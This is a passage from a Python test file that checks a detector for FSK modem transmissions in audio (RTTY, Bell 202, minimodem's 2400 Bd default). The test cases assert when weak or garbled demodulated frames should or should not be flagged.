    chance = Demodulated(data, 2125.0, 2550.0, frames=96, valid_ratio=0.49)
    tick = Keying(0.0, 8.0, 2125.0, 2550.0, 50.0, 0.76, 286, clock_z=123.0)
    assert tick.baud < NAMED_CLOCK_MIN_BAUD
    arpeggio = Transmission(tick, "RTTY 425 Hz shift", chance, baudot=(111, 0.58))
    assert not arpeggio.flagged
    # the same clock at Bell 202's rate, far above any tick, with frames garbled by music: reported
    fast = replace(tick, f_low=1200.0, f_high=2200.0, baud=1200.0)
    assert Transmission(fast, "Bell 202", replace(chance, valid_ratio=0.6)).flagged


def test_a_named_clock_without_frames_to_read_is_no_evidence_alone() -> None:
    # a test tone's steady lines kept minimodem's 2400 Bd clock and framed 2 bytes in 8 s
    lines = Keying(0.0, 8.0, 1800.0, 3800.0, 2400.0, 0.67, 289, clock_z=130.0)
    two = Demodulated(b"\x00\xff", 1800.0, 3800.0, frames=2, valid_ratio=0.5)
    assert not Transmission(lines, "minimodem default for 2400 Bd", two).flagged
    # a modem under music frames thousands of bytes, garbled towards chance
    rng = np.random.default_rng(17)
    garbled = Demodulated(
        rng.integers(0, 256, 1200, dtype=np.uint8).tobytes(), 1800.0, 3800.0, 1200, 0.6
    )
    assert Transmission(lines, "minimodem default for 2400 Bd", garbled).flagged
